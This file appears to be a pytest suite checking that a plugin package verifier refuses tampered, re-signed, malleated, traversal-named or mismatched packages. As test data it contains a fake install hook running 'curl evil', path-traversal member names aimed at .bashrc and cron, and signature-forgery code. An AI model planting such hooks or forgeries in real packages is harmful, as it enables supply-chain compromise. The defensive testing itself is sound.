"""Attacks on plugin packages: each test fails if the attack gets a package verified.

Every refusal must carry the exact reason, name the plugin, and say what to do.
The packages and signatures are real: PyNaCl keys, real archives, no mocks.
"""

from __future__ import annotations

import base64
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import wasmtime

from dataflare.kernel._manifest import PluginManifest
from dataflare.kernel._package import sign_package, write_package
from dataflare.kernel._signing import SignatureEnvelope, SigningIdentity, generate_keypair, pae
from dataflare.kernel._trust import TrustStore
from dataflare.kernel._verify import verify_package
from dataflare.kernel.errors import PluginIncompatibleError, PluginVerificationError

WASM = bytes(wasmtime.wat2wasm('(module (memory (export "memory") 1) (func (export "df_abi_v1")))'))
NOW = datetime(2026, 3, 1, tzinfo=UTC)
ED25519_L = 2**252 + 27742317777372353535851937790883648493
GET_AGAIN = "Do not use this package; get it again from its publisher"
MANIFEST = PluginManifest(
    name="acme/redact", version="1.2.0", kind="map", dataflare=">=0.1,<0.2", license="MIT"
)


@pytest.fixture
def acme() -> SigningIdentity:
    """Publisher acme's signing key."""
    return generate_keypair("acme")


@pytest.fixture
def store(acme: SigningIdentity) -> TrustStore:
    """A trust store that trusts acme's key for acme's plugins."""
    trust = TrustStore()
    trust.trust(acme.public, now=NOW)
    return trust


@pytest.fixture
def package(tmp_path: Path, acme: SigningIdentity) -> Path:
    """acme/redact, with a README, signed by acme."""
    path = write_package(
        tmp_path / "redact.dfp", MANIFEST, {"plugin.wasm": WASM, "README.md": b"hi"}
    )
    return sign_package(path, acme)


def members(path: Path) -> dict[str, bytes]:
    """Every member of a package, by name, in archive order."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def repack(path: Path, changes: dict[str, bytes | None]) -> bytes:
    """The package with members replaced, added, or removed (``None``), all else byte-identical."""
    contents = {**members(path), **changes}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in contents.items():
            if data is not None:
                archive.writestr(name, data)
    return buffer.getvalue()


def envelope(identity: SigningIdentity, message: bytes) -> bytes:
    """A signature envelope in the identity's name over exactly ``message``."""
    signature = base64.b64encode(identity.signing_key.sign(message).signature).decode()
    return SignatureEnvelope(identity.key_id, signature).to_json()


def refused(
    source: Path | bytes,
    store: TrustStore,
    reason: str,
    fix: str,
    *,
    host_version: str = "0.1.0",
    now: datetime = NOW,
) -> PluginVerificationError:
    """Verify a package that must be refused for ``reason`` with a message naming the fix."""
    with pytest.raises(PluginVerificationError) as caught:
        verify_package(source, store, host_version=host_version, now=now)
    error = caught.value
    assert error.reason == reason
    assert error.plugin == "acme/redact"
    assert str(error).startswith("plugin acme/redact: ")
    assert fix in str(error)
    return error


def test_the_untampered_package_verifies(package, store):
    """The baseline every attack starts from is accepted, so each refusal below is the attack's."""
    assert verify_package(package, store, host_version="0.1.0", now=NOW).module_bytes == WASM


def test_tampered_module(package, store):
    """One byte flipped in plugin.wasm after signing is a hash mismatch."""
    module = bytearray(WASM)
    module[-1] ^= 0x01
    error = refused(
        repack(package, {"plugin.wasm": bytes(module)}), store, "hash-mismatch", GET_AGAIN
    )
    assert "plugin.wasm in <bytes> does not match its signed manifest" in str(error)


@pytest.mark.parametrize(
    "edit",
    [
        lambda m: m.update(capabilities=["wasi-stdio"]),
        lambda m: m["limits"].update(memory_mb=4096, fuel_base=10**15),
        lambda m: m.update(version="1.2.1"),
        lambda m: m["files"]["plugin.wasm"].update(sha256="0" * 64),
    ],
    ids=["grants-wasi", "raises-limits", "bumps-version", "rehashes-module"],
)
def test_tampered_manifest(package, store, edit):
    """A manifest changed after signing (permissions, limits, version, digests) does not verify."""
    document = json.loads(members(package)["dataflare-plugin.json"])
    edit(document)
    forged = json.dumps(document).encode()
    refused(repack(package, {"dataflare-plugin.json": forged}), store, "bad-signature", GET_AGAIN)


def test_reformatted_manifest(package, store):
    """The raw signed bytes are checked: the same manifest with one more space does not verify."""
    manifest = members(package)["dataflare-plugin.json"]
    spaced = manifest.replace(b'"kind":', b'"kind": ', 1)
    assert PluginManifest.from_json(spaced) == PluginManifest.from_json(manifest)
    refused(repack(package, {"dataflare-plugin.json": spaced}), store, "bad-signature", GET_AGAIN)


def test_stripped_signature(package, store):
    """Removing the signature leaves an unsigned package, which never runs."""
    source = repack(package, {"dataflare-plugin.sig": None})
    refused(source, store, "unsigned", "get a signed release from its publisher")


def test_signed_by_an_unknown_key(tmp_path, store):
    """A package re-signed by an attacker's own key 'for acme' is signed by an unknown key."""
    path = write_package(tmp_path / "evil.dfp", MANIFEST, {"plugin.wasm": WASM + b"\0"})
    sign_package(path, generate_keypair("acme"))
    error = refused(path, store, "unknown-key", "run `dataflare keys trust <file>`")
    assert "which is not in the trust store" in str(error)


def test_signed_by_a_revoked_key(package, store, acme):
    """A package signed by a revoked key is refused, saying when and why it was revoked."""
    store.revoke(acme.key_id, "key leaked in CI logs", now=NOW)
    error = refused(
        package,
        store,
        "revoked-key",
        "get a release signed with the current key of publisher 'acme'",
    )
    assert "revoked on 2026-03-01 (key leaked in CI logs)" in str(error)


def test_signed_by_an_expired_key(package, acme):
    """A package signed by a key past its expiry is refused, with how to extend trust."""
    store = TrustStore()
    store.trust(acme.public, expires=NOW + timedelta(days=1), now=NOW)
    error = refused(package, store, "expired-key", "--expires <date>`", now=NOW + timedelta(days=1))
    assert "which expired on 2026-03-02" in str(error)


def test_extra_file_slipped_in(package, store):
    """A file added after signing (an install hook, say) is refused even though all else matches."""
    source = repack(package, {"hooks/postinstall.py": b"import os; os.system('curl evil')"})
    error = refused(source, store, "unexpected-file", GET_AGAIN)
    assert "holds hooks/postinstall.py, which its signed manifest does not list" in str(error)


def test_listed_file_removed(package, store):
    """A listed file taken out of the package is missing."""
    error = refused(repack(package, {"README.md": None}), store, "missing-file", "get it again")
    assert "its manifest lists README.md, but <bytes> does not contain it" in str(error)


@pytest.mark.parametrize(
    ("member", "rule"),
    [
        ("../../.bashrc", "contains '..'"),
        ("/etc/cron.d/evil", "is an absolute path"),
        ("..\\..\\evil.dll", "contains a backslash"),
    ],
)
def test_path_traversal_member(package, store, member, rule):
    """A member that would be written outside the package is refused before anything else."""
    with pytest.raises(PluginVerificationError) as caught:
        verify_package(repack(package, {member: b"x"}), store, host_version="0.1.0", now=NOW)
    assert caught.value.reason == "malformed"
    assert rule in str(caught.value)
    assert "Do not use it; get it again from its publisher" in str(caught.value)


@pytest.mark.parametrize(
    "message",
    [
        lambda manifest: pae("application/vnd.dataflare.index+json", manifest),
        lambda manifest: manifest,
        lambda manifest: b"DSSEv1 0  " + manifest,
    ],
    ids=["another-payload-type", "bare-bytes", "spliced-pae"],
)
def test_signature_over_another_payload(package, store, acme, message):
    """The trusted key's signature over anything but PAE(manifest type, manifest) is refused."""
    manifest = members(package)["dataflare-plugin.json"]
    forged = envelope(acme, message(manifest))
    refused(repack(package, {"dataflare-plugin.sig": forged}), store, "bad-signature", GET_AGAIN)


def test_malleated_signature(package, store, acme):
    """The genuine signature with S + L added (same point, non-canonical) is refused."""
    genuine = json.loads(members(package)["dataflare-plugin.sig"])
    raw = base64.b64decode(genuine["signature"])
    s = int.from_bytes(raw[32:], "little") + ED25519_L
    genuine["signature"] = base64.b64encode(raw[:32] + s.to_bytes(32, "little")).decode()
    forged = json.dumps(genuine).encode()
    refused(repack(package, {"dataflare-plugin.sig": forged}), store, "bad-signature", GET_AGAIN)


def test_signature_borrowing_a_trusted_key_id(package, store, acme):
    """An attacker's signature filed under acme's key id does not verify."""
    attacker = generate_keypair("acme")
    manifest = members(package)["dataflare-plugin.json"]
    signature = attacker.signing_key.sign(
        pae("application/vnd.dataflare.plugin-manifest+json", manifest)
    )
    forged = SignatureEnvelope(
        acme.key_id, base64.b64encode(signature.signature).decode()
    ).to_json()
    refused(repack(package, {"dataflare-plugin.sig": forged}), store, "bad-signature", GET_AGAIN)


def test_namespace_hijack(package, store):
    """A key trusted for publisher globex cannot sign acme/redact."""
    globex = generate_keypair("globex")
    store.trust(globex.public, now=NOW)
    manifest = members(package)["dataflare-plugin.json"]
    forged = envelope(globex, pae("application/vnd.dataflare.plugin-manifest+json", manifest))
    error = refused(
        repack(package, {"dataflare-plugin.sig": forged}),
        store,
        "unknown-key",
        "Get acme/redact from publisher 'acme', signed with their key",
    )
    assert "trusts for publisher 'globex', not 'acme'" in str(error)


def test_mix_and_match_of_two_signed_releases(tmp_path, package, store, acme):
    """A genuine signed manifest paired with another genuine release's module is refused."""
    other = write_package(
        tmp_path / "other.dfp", MANIFEST, {"plugin.wasm": WASM + b"\0", "README.md": b"hi"}
    )
    sign_package(other, acme)
    source = repack(package, {"plugin.wasm": members(other)["plugin.wasm"]})
    refused(source, store, "hash-mismatch", GET_AGAIN)


def test_case_colliding_member(package, store):
    """A second module whose name differs only in case (for case-insensitive disks) is refused."""
    with pytest.raises(PluginVerificationError) as caught:
        verify_package(repack(package, {"PLUGIN.wasm": b"evil"}), store, host_version="0.1.0")
    assert caught.value.reason == "malformed"
    assert "which differ only in case" in str(caught.value)


def test_incompatible_host_version(package, store):
    """A plugin for DataFlare 0.1.x on DataFlare 0.2.0 names both versions and the fix."""
    with pytest.raises(PluginIncompatibleError) as caught:
        verify_package(package, store, host_version="0.2.0", now=NOW)
    error = caught.value
    assert (error.reason, error.plugin) == ("incompatible-host", "acme/redact")
    assert str(error) == (
        "plugin acme/redact: version 1.2.0 works with DataFlare >=0.1,<0.2, and this is "
        "DataFlare 0.2.0: install a release of acme/redact built for DataFlare 0.2.0, or run "
        "a DataFlare version matching >=0.1,<0.2"
    )


def test_incompatible_abi(tmp_path, store, acme):
    """A plugin built for dataflare-batch/2 is refused by a batch/1 host, with the fix."""
    manifest = PluginManifest(
        name="acme/redact",
        version="2.0.0",
        kind="map",
        dataflare=">=0.1",
        license="MIT",
        abi="dataflare-batch/2",
    )
    path = sign_package(write_package(tmp_path / "v2.dfp", manifest, {"plugin.wasm": WASM}), acme)
    with pytest.raises(PluginIncompatibleError) as caught:
        verify_package(path, store, host_version="0.1.0", now=NOW)
    error = caught.value
    assert (error.reason, error.plugin) == ("incompatible-abi", "acme/redact")
    assert str(error) == (
        "plugin acme/redact: it is built for dataflare-batch/2; this host supports "
        "dataflare-batch/1: upgrade dataflare-kernel, or build the plugin against an older SDK"
    )
